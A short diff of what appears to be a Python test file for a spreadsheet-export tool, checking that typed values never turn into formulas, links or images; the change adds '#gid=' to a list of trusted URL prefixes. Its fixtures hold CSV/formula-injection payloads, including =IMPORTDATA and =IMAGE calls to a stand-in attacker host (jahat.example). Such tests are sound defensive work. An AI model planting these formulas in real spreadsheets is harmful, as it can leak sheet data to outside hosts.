@@ -28,7 +28,8 @@ TEXTS = {
 }
 SETTINGS = {"Nama Sekolah": f'=IMPORTDATA("{JAHAT}")', "Alamat": "-2+3", "Kota": "@Bandung"}
 NAME = '=IMAGE("https://jahat.example/y.png")'
-OURS = ("https://docs.google.com/", "https://wa.me/")
+OURS = ("https://docs.google.com/", "https://wa.me/", "#gid=")
+"""Documents, reminders, and places of the workbook itself."""
 
 
 def test_nothing_that_was_typed_becomes_a_formula_a_link_or_a_picture(desk: Desk):
